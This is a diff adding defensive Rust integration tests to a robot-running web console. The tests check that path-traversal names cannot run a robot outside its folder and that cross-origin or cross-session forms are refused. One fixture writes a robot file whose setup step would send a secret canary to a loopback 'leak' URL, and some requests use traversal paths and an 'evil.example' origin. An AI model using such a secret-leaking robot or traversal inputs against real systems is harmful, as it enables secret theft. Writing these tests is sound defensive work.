@@ -144,6 +144,15 @@ pub(crate) fn csrf(page: &str) -> String {
     page[at..].split('"').next().unwrap().to_string()
 }
 
+/// The `Cookie` header that carries the session a page set (`Set-Cookie`).
+pub(crate) fn session_cookie(head: &str) -> String {
+    let line = head
+        .lines()
+        .find(|l| l.to_ascii_lowercase().starts_with("set-cookie: nightshift_session="))
+        .expect("the page sets its session cookie");
+    line.split_once(": ").unwrap().1.split(';').next().unwrap().to_string()
+}
+
 /// A robot whose one case fails with page-like text that holds markup.
 fn markup_robot(dir: &Path) {
     std::fs::create_dir_all(dir).unwrap();
@@ -212,14 +221,16 @@ fn the_console_refuses_what_it_must_and_shows_page_text_as_text() {
     let refused = http(port, "POST", "/robots/markup/run", &authed, Some("csrf=guess"));
     assert_eq!(refused.status, 403);
     let form = format!("csrf={}", csrf(&start.body));
-    let started = http(port, "POST", "/robots/markup/run", &authed, Some(&form));
+    let session = session_cookie(&start.head);
+    let with_session = [(auth.0, auth.1.as_str()), ("Cookie", session.as_str())];
+    let started = http(port, "POST", "/robots/markup/run", &with_session, Some(&form));
     assert_eq!(started.status, 303, "{}", started.body);
     assert!(
         started.head.contains("location: /runs/2") || started.head.contains("Location: /runs/2"),
         "{}",
         started.head
     );
-    let again = http(port, "POST", "/robots/markup/run", &authed, Some(&form));
+    let again = http(port, "POST", "/robots/markup/run", &with_session, Some(&form));
     assert_eq!(again.status, 409, "{}", again.body);
 
     // The case link from the mail opens its case without the console's
@@ -261,4 +272,108 @@ fn the_console_will_not_listen_beyond_loopback_without_a_token() {
     let out = h.run(&["serve", "--http", &format!("0.0.0.0:{port}")], &[]);
     assert_eq!(out.status.code(), Some(5), "{}", text(&out.stderr));
     assert!(text(&out.stderr).contains("not a loopback address, without a token"), "{}", text(&out.stderr));
+}
+
+/// A robot outside the robots folder that would send the daemon's secret to
+/// a listener on loopback if it ever ran.
+fn outside_robot(dir: &Path, listener_port: u16) -> std::path::PathBuf {
+    std::fs::create_dir_all(dir).unwrap();
+    let path = dir.join("evil.yaml");
+    std::fs::write(
+        &path,
+        format!(
+            "name: evil\nsecrets: [CANARY]\nsetup:\n  - http: {{ get: \"http://127.0.0.1:{listener_port}/leak?s=${{secrets.CANARY}}\", into: answer }}\n"
+        ),
+    )
+    .unwrap();
+    path
+}
+
+/// Counts the connections made to a loopback port until the test ends.
+fn listener() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    let socket = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = socket.local_addr().unwrap().port();
+    let count = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let seen = count.clone();
+    std::thread::spawn(move || {
+        for stream in socket.incoming().flatten() {
+            seen.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            drop(stream);
+        }
+    });
+    (port, count)
+}
+
+#[test]
+fn run_now_takes_only_the_name_of_a_robot_of_the_robots_folder() {
+    let h = Harness::new();
+    let robots = h.dir.path().join("robots");
+    markup_robot(&robots);
+    let (leak_port, calls) = listener();
+    let evil = outside_robot(&h.dir.path().join("elsewhere"), leak_port);
+    let port = free_port();
+    let env = vec![("NIGHTSHIFT_SECRET_CANARY".to_string(), "secret-canary-5d21".to_string())];
+    let console = Served::start(&h, &robots, port, &env);
+    let start = http(port, "GET", "/", &[], None);
+    let form = format!("csrf={}", csrf(&start.body));
+    let session = session_cookie(&start.head);
+    let headers = [("Cookie", session.as_str())];
+
+    let plain = evil.to_str().unwrap().to_string();
+    let encoded: String = form_urlencoded::byte_serialize(plain.as_bytes()).collect();
+    let relative = "..%2Felsewhere%2Fevil";
+    for name in [encoded.as_str(), relative, "..%2Felsewhere%2Fevil.yaml", "evil", "markup.yaml"] {
+        let answer = http(port, "POST", &format!("/robots/{name}/run"), &headers, Some(&form));
+        assert_eq!(answer.status, 404, "{name}: {}", answer.body);
+    }
+    // Give a robot that was started anyway the time to make its call.
+    std::thread::sleep(Duration::from_secs(3));
+    assert_eq!(calls.load(std::sync::atomic::Ordering::SeqCst), 0, "the robot outside the folder called out");
+    let runs = http(port, "GET", "/runs", &[], None);
+    assert!(!runs.body.contains("/runs/1\""), "no run was created: {}", runs.body);
+    // The case page and the runs filter take such a name as a name, nothing more.
+    let case = http(port, "GET", &format!("/case?robot={encoded}&key=x&token=1.00"), &[], None);
+    assert_eq!(case.status, 404, "no such open case: {}", case.body);
+    assert_eq!(http(port, "GET", &format!("/runs?robot={encoded}"), &[], None).status, 200);
+    assert_eq!(calls.load(std::sync::atomic::Ordering::SeqCst), 0);
+
+    // The robot of the folder still starts.
+    let started = http(port, "POST", "/robots/markup/run", &headers, Some(&form));
+    assert_eq!(started.status, 303, "{}", started.body);
+    drop(console);
+}
+
+#[test]
+fn a_form_from_another_origin_or_another_session_is_refused() {
+    let h = Harness::new();
+    let robots = h.dir.path().join("robots");
+    markup_robot(&robots);
+    let port = free_port();
+    let console = Served::start(&h, &robots, port, &[]);
+    let start = http(port, "GET", "/", &[], None);
+    let form = format!("csrf={}", csrf(&start.body));
+    let session = session_cookie(&start.head);
+    let own_origin = format!("http://127.0.0.1:{port}");
+
+    let foreign = [("Cookie", session.as_str()), ("Origin", "https://evil.example")];
+    assert_eq!(http(port, "POST", "/robots/markup/run", &foreign, Some(&form)).status, 403);
+    let cross = [("Cookie", session.as_str()), ("Sec-Fetch-Site", "cross-site")];
+    assert_eq!(http(port, "POST", "/robots/markup/run", &cross, Some(&form)).status, 403);
+    let null = [("Cookie", session.as_str()), ("Origin", "null")];
+    assert_eq!(http(port, "POST", "/robots/markup/run", &null, Some(&form)).status, 403, "no browser vouches for it");
+    // The token is another browser's: its session cookie is not this one.
+    let other = http(port, "GET", "/", &[], None);
+    let other_session = session_cookie(&other.head);
+    assert_ne!(other_session, session, "each browser gets its own session");
+    let stolen = [("Cookie", other_session.as_str()), ("Origin", own_origin.as_str())];
+    assert_eq!(http(port, "POST", "/robots/markup/run", &stolen, Some(&form)).status, 403);
+    assert_eq!(http(port, "POST", "/robots/markup/run", &[], Some(&form)).status, 403, "no cookie at all");
+    let runs = http(port, "GET", "/runs", &[], None);
+    assert!(!runs.body.contains("/runs/1\""), "nothing ran: {}", runs.body);
+
+    // A browser under the console's no-referrer policy: `Origin: null`, vouched for.
+    let own = [("Cookie", session.as_str()), ("Origin", "null"), ("Sec-Fetch-Site", "same-origin")];
+    let started = http(port, "POST", "/robots/markup/run", &own, Some(&form));
+    assert_eq!(started.status, 303, "{}", started.body);
+    drop(console);
 }
